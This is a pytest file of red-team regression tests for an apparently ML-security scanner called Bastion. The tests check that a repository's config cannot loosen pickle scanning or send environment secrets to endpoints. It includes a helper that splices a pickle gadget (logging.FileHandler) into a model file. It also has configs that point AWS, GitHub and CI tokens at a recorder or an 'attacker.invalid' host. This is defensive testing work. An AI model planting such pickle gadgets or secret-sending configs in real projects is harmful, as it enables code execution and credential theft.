"""Red-team round 31: what a cloned repository's ``bastion.yaml`` could make Bastion do.

03: ``scan.allow`` widened the pickle allow-list to any callable the deny-list did not name, and
``assess`` unpickled a model that ran ``logging.FileHandler``/``torch.ops.load_library`` first.
02: an endpoint asset sent any environment secret (``token_env: AWS_SECRET_ACCESS_KEY``) over
plain http to any host; round 33 (02): and any secret no deny-list named (``MYSQL_PASSWORD``) over
https, so a project file may name only ``BASTION_*`` variables or those in ``BASTION_ALLOW_ENV``.
"""

from __future__ import annotations

import json
import pickle
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, ClassVar

import pytest

from bastion import api
from bastion.cli.main import run
from bastion.core.config import Asset, EndpointSpec, InputSpec
from bastion.core.errors import ConfigError
from bastion.guard.app import upstream_headers
from bastion.guard.config import UpstreamSource
from bastion.targets import build_target


def _gadget_model(project: Path, canary: Path) -> Path:
    """The project's model, preceded by ``logging.FileHandler(canary)`` (its result popped)."""
    import joblib

    clf = joblib.load(project / "model.joblib")
    body = pickle.dumps(clf, protocol=4)

    def s(t: str) -> bytes:
        b = t.encode()
        return b"\x8c" + bytes([len(b)]) + b

    gadget = s("logging") + s("FileHandler") + b"\x93" + s(str(canary)) + b"\x85R0"
    path = project / "model.joblib"
    path.write_bytes(body[:2] + gadget + body[2:])
    return path


def test_03_assess_refuses_a_repositorys_scan_allow_of_a_library(
    wine_project: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    canary = wine_project.parent / "rt31-canary-created-outside-the-project"
    model = _gadget_model(wine_project, canary)
    cfg = wine_project / "bastion.yaml"
    cfg.write_text(cfg.read_text() + "scan:\n  allow: [torch.ops.load_library, logging.FileHandler]\n")
    capsys.readouterr()
    rc = run(
        ["assess", "-c", str(cfg), "-o", str(wine_project / "rep"), "--budget", "quick", "--fail-on", "none"]
    )
    err = capsys.readouterr().err
    assert rc == 2 and not canary.exists()
    assert "bastion.yaml" in err and "scan.allow[0]" in err and "'logging.FileHandler'" in err
    # every command that reads the project's scan.allow goes through the same check
    with pytest.raises(ConfigError, match=r"scan\.allow\[1\]: 'logging\.FileHandler' names logging"):
        api.guard_fit(cfg, asset="triage", out=wine_project / "prof")
    with pytest.raises(ConfigError, match=r"scan\.allow\[0\]: 'torch\.ops\.load_library' names torch"):
        api.harden(cfg, asset="triage", procedure="adversarial-training")
    assert run(["scan", str(model), "-c", str(cfg)]) == 2
    assert not canary.exists() and not (wine_project / "prof").exists()


def test_03_the_gadget_model_is_malicious_even_with_a_typed_allow(
    wine_project: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    canary = wine_project.parent / "rt31-canary-typed"
    model = _gadget_model(wine_project, canary)
    assert run(["scan", str(model), "--allow", "logging.FileHandler", "-f", "json"]) == 1
    [f] = json.loads(capsys.readouterr().out)["files"]
    assert f["verdict"] == "malicious" and not canary.exists()


def test_03_a_project_files_own_entries_are_shown_in_the_assess_report(tmp_path: Path) -> None:
    # the user's own class allowed by bastion.yaml: loaded, and the report shows what the file allowed
    data = b"\x80\x02cmyproject.layers\nBlock\nq\x00)\x81q\x01."
    (tmp_path / "m.pkl").write_bytes(data)
    cfg = tmp_path / "bastion.yaml"
    cfg.write_text("version: 1\nassets:\n  - {name: m, path: m.pkl}\nscan:\n  allow: [myproject.layers.*]\n")
    rep = api.assess(cfg, only=["scan"], store=False)
    found = [f for f in rep.findings if f.rule_id == "scan.pickle.project-allowed"]
    assert [f.evidence["allow_entry"] for f in found] == ["myproject.layers.*"]
    assert found[0].asset == "m" and found[0].severity.value == "info"


def test_03_the_dry_run_plan_shows_the_project_files_allow_entries(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # an auditor reading the plan sees what the project file let the scanner accept
    from bastion.cli.main import run

    (tmp_path / "m.pkl").write_bytes(b"\x80\x02cmyproject.layers\nBlock\nq\x00)\x81q\x01.")
    cfg = tmp_path / "bastion.yaml"
    cfg.write_text("version: 1\nassets:\n  - {name: m, path: m.pkl}\nscan:\n  allow: [myproject.layers.*]\n")
    assert run(["assess", "-c", str(cfg), "--dry-run"]) == 0
    out, err = capsys.readouterr()
    assert json.loads(out)["scan_allow"] == ["myproject.layers.*"]
    assert "scan.allow from the project file: myproject.layers.*" in " ".join(err.split())
    cfg.write_text("version: 1\nassets:\n  - {name: m, path: m.pkl}\n")
    assert run(["assess", "-c", str(cfg), "--dry-run"]) == 0
    out, err = capsys.readouterr()
    assert json.loads(out)["scan_allow"] == [] and "scan.allow from" not in err


class _Recorder(BaseHTTPRequestHandler):
    hits: ClassVar[list[dict[str, Any]]] = []

    def log_message(self, *args: Any) -> None:
        pass

    def do_POST(self) -> None:
        n = int(self.headers.get("Content-Length", 0))
        _Recorder.hits.append({"headers": dict(self.headers), "body": self.rfile.read(n)})
        data = json.dumps({"predictions": []}).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)


@pytest.fixture()
def recorder() -> Iterator[tuple[str, list[dict[str, Any]]]]:
    _Recorder.hits = []
    srv = ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    t = threading.Thread(target=srv.serve_forever, daemon=True)
    t.start()
    yield f"http://127.0.0.1:{srv.server_address[1]}/predict", _Recorder.hits
    srv.shutdown()


def _endpoint_project(tmp_path: Path, url: str, endpoint: str) -> Path:
    import numpy as np

    rng = np.random.default_rng(0)
    np.savez(tmp_path / "d.npz", x=rng.normal(size=(40, 4)).astype(np.float32), y=np.arange(40) % 2)
    cfg = tmp_path / "bastion.yaml"
    cfg.write_text(
        f"""version: 1
assets:
  - name: remote
    kind: endpoint
    url: {url}
    num_classes: 2
    dataset: d
    endpoint: {endpoint}
    input: {{shape: [4]}}
datasets:
  - {{name: d, path: d.npz, label: y, features: [x], splits: {{train: [0, 1, 2], test: [3, 4, 5]}}}}
"""
    )
    return cfg


@pytest.mark.parametrize(
    "endpoint",
    [
        "{token_env: AWS_SECRET_ACCESS_KEY}",
        "{headers_env: {X-Gh: GITHUB_TOKEN}}",
        "{token_env: CI_JOB_TOKEN}",
    ],
)
def test_02_a_repositorys_endpoint_never_gets_a_cloud_or_ci_secret(
    tmp_path: Path,
    recorder: tuple[str, list[dict[str, Any]]],
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    endpoint: str,
) -> None:
    err = _assess_refused(
        tmp_path,
        recorder,
        monkeypatch,
        capsys,
        endpoint,
        ("AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "CI_JOB_TOKEN"),
    )
    assert (
        "well-known cloud, CI or registry credential" in err and "export the value under another name" in err
    )


def _assess_refused(
    tmp_path: Path,
    recorder: tuple[str, list[dict[str, Any]]],
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    endpoint: str,
    secrets: tuple[str, ...],
) -> str:
    """``assess`` of a project whose endpoint reads ``secrets``: exit 2, nothing sent, no secret shown.

    Returns its stderr.
    """
    url, hits = recorder
    for env in secrets:
        monkeypatch.setenv(env, f"victim-secret-{env}")
    cfg = _endpoint_project(tmp_path, url, endpoint)
    capsys.readouterr()
    assert run(["assess", "-c", str(cfg), "-o", str(tmp_path / "rep"), "--budget", "quick"]) == 2
    out = capsys.readouterr()
    assert hits == []
    assert "victim-secret" not in out.err + out.out
    return out.err


@pytest.mark.parametrize(
    "endpoint",
    [
        "{token_env: MYSQL_PASSWORD}",
        "{headers_env: {X-Slack: SLACK_BOT_TOKEN}}",
        "{token_env: BASTION_OK, headers_env: {X-Key: GEMINI_API_KEY}}",
    ],
)
def test_02_round33_a_repositorys_endpoint_gets_only_bastion_names_or_approved_ones(
    tmp_path: Path,
    recorder: tuple[str, list[dict[str, Any]]],
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    endpoint: str,
) -> None:
    monkeypatch.delenv("BASTION_ALLOW_ENV", raising=False)
    err = _assess_refused(
        tmp_path,
        recorder,
        monkeypatch,
        capsys,
        endpoint,
        ("MYSQL_PASSWORD", "SLACK_BOT_TOKEN", "GEMINI_API_KEY", "BASTION_OK"),
    )
    assert "'remote'" in err and "BASTION_ALLOW_ENV=" in err and "may not be read" in err


def test_02_round33_the_loader_checks_the_allow_list_again(
    recorder: tuple[str, list[dict[str, Any]]], monkeypatch: pytest.MonkeyPatch
) -> None:
    url, hits = recorder
    monkeypatch.delenv("BASTION_ALLOW_ENV", raising=False)
    monkeypatch.setenv("MYSQL_PASSWORD", "victim-secret")
    spec = EndpointSpec.model_construct(**{**EndpointSpec().model_dump(), "token_env": "MYSQL_PASSWORD"})
    a = Asset.model_construct(
        **{
            **Asset(name="e", kind="endpoint", url=url).model_dump(),
            "endpoint": spec,
            "input": InputSpec(shape=[4]),
            "num_classes": 2,
        }
    )
    with pytest.raises(ConfigError, match="endpoint credentials refused") as info:
        build_target(a, base_dir=Path("."))
    assert "BASTION_ALLOW_ENV=MYSQL_PASSWORD" in str(info.value) and "victim-secret" not in str(info.value)
    # approved outside the file, the same asset is built (the user chose to send it)
    monkeypatch.setenv("BASTION_ALLOW_ENV", "MYSQL_PASSWORD")
    assert build_target(a, base_dir=Path(".")) is not None
    assert hits == []


def test_02_environment_credentials_never_go_over_plain_http_to_another_host(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("BASTION_RF_TOKEN", "the-users-token")
    cfg = _endpoint_project(tmp_path, "http://attacker.invalid:9/predict", "{token_env: BASTION_RF_TOKEN}")
    capsys.readouterr()
    assert run(["assess", "-c", str(cfg), "-o", str(tmp_path / "rep"), "--budget", "quick"]) == 2
    err = capsys.readouterr().err
    assert "'remote'" in err and "BASTION_RF_TOKEN" in err and "only over https://" in err
    assert "the-users-token" not in err


def test_02_the_loader_checks_again_where_it_reads_the_environment(
    recorder: tuple[str, list[dict[str, Any]]], monkeypatch: pytest.MonkeyPatch
) -> None:
    # an asset that skipped the config's validation (model_construct) is refused where the value is read
    url, hits = recorder
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "victim-secret")
    monkeypatch.setenv("BASTION_RF_TOKEN", "the-users-token")
    for spec_url, env in (
        (url, "AWS_SECRET_ACCESS_KEY"),
        ("http://attacker.invalid:9/p", "BASTION_RF_TOKEN"),
    ):
        spec = EndpointSpec.model_construct(**{**EndpointSpec().model_dump(), "token_env": env})
        a = Asset.model_construct(
            **{
                **Asset(name="e", kind="endpoint", url="https://x.example/p").model_dump(),
                "url": spec_url,
                "endpoint": spec,
                "input": InputSpec(shape=[4]),
                "num_classes": 2,
            }
        )
        with pytest.raises(ConfigError, match="endpoint credentials refused") as info:
            build_target(a, base_dir=Path("."))
        assert "victim-secret" not in str(info.value) and "the-users-token" not in str(info.value)
    assert hits == []
    # the user's own name over loopback http still works
    spec = EndpointSpec(token_env="BASTION_RF_TOKEN")
    t = build_target(
        Asset(name="e", kind="endpoint", url=url, endpoint=spec, input=InputSpec(shape=[4]), num_classes=2),
        base_dir=Path("."),
    )
    assert t is not None


def test_02_the_guard_upstream_token_is_checked_where_it_is_read(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("UPSTREAM_TOKEN", "up-secret")
    ok = UpstreamSource(
        url="http://127.0.0.1:9/p", input_shape=[4], num_classes=2, token_env="UPSTREAM_TOKEN"
    )
    assert upstream_headers(ok) == {"Authorization": "Bearer up-secret"}
    bad = UpstreamSource.model_construct(**{**ok.model_dump(), "url": "http://models.internal/p"})
    with pytest.raises(ConfigError, match="token_env UPSTREAM_TOKEN refused"):
        upstream_headers(bad)
